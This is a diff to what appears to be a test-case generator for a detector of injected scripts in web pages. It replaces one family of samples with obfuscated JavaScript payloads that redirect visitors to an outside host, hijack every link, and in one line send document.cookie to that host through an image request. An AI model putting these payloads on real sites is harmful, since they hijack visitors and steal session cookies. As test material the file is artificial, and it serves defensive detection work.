@@ -1,6 +1,7 @@
 """Two families written last. No detector, list or threshold was changed after their first run."""
 
 # ruff: noqa: E501 (markup reads better on one line)
+import base64
 import random
 from collections.abc import Callable
 
@@ -24,17 +25,24 @@ def foreign_words(source: random.Random, clean: Clean) -> str:
     return clean.html(head=f'<meta name="description" content="{words}">')
 
 
-def built_by_script(source: random.Random, clean: Clean) -> str:
-    """Let a script build the links, frames or forms of strangers from parts."""
+def other_scripts(source: random.Random, clean: Clean) -> str:
+    """Let a script serve a stranger by other ways than those the reader of scripts was made for."""
     host = source.choice(HOSTS)
+    codes = ",".join(str(ord(one)) for one in f"//{host}/")
+    shifted = "".join(chr(ord(one) + 1) for one in f"//{host}/")
+    escaped = base64.b64encode(f"top.location='http://{host}/'".encode()).decode()
     code = source.choice(
         [
-            f"var a=document.createElement('a');a.href='http://{host}/';a.innerText='x';document.body.appendChild(a);",
-            f"var f=document.createElement('iframe');f.style.display='none';f.src='//{host}/t';document.body.appendChild(f);",
-            f"$('body').append('<a href=\"http://{host}\">more</a>');",
-            f"$.getScript('https://{host}/x.js');",
-            f"fetch('https://{host}/p').then(function(r){{return r.text()}}).then(function(t){{document.body.innerHTML=t}});",
-            f"var s='{host[::-1]}'.split('').reverse().join('');location.href='http://'+s;",
+            f"var u=[{codes}].map(function(c){{return String.fromCharCode(c)}}).join('');document.location=u;",
+            f"var t='{shifted}',u='';for(var i=0;i<t.length;i++)u+=String.fromCharCode(t.charCodeAt(i)-1);location.href=u;",
+            f"new Function(atob('{escaped}'))();",
+            f"var l={{a:'http:',b:'//{host}'}};window.open(l.a+l.b,'_self');",
+            f"const h='{host}';setTimeout(()=>{{location.href=`https://${{h}}/?r=${{document.referrer}}`}},800);",
+            f"document.body.insertAdjacentHTML('beforeend','<a href=//{host}>在线</a>');",
+            f"if(!localStorage.v){{localStorage.v=1;location='//'+'{host}'}}",
+            f"var i=new Image();i.src='https://{host}/c.gif?k='+document.cookie;",
+            f"[].forEach.call(document.links,function(a){{a.href='http://{host}/?'+a.href}});",
+            f"history.pushState(0,'','#');onpopstate=function(){{location.replace(['//{host[:5]}','{host[5:]}'].join(''))}};",
         ]
     )
     return clean.html(last=f"<script>{code}</script>")
@@ -42,5 +50,5 @@ def built_by_script(source: random.Random, clean: Clean) -> str:
 
 UNTUNED: dict[str, Callable[[random.Random, Clean], str]] = {
     "foreign words (untuned)": foreign_words,
-    "built by script (untuned)": built_by_script,
+    "other scripts (untuned)": other_scripts,
 }
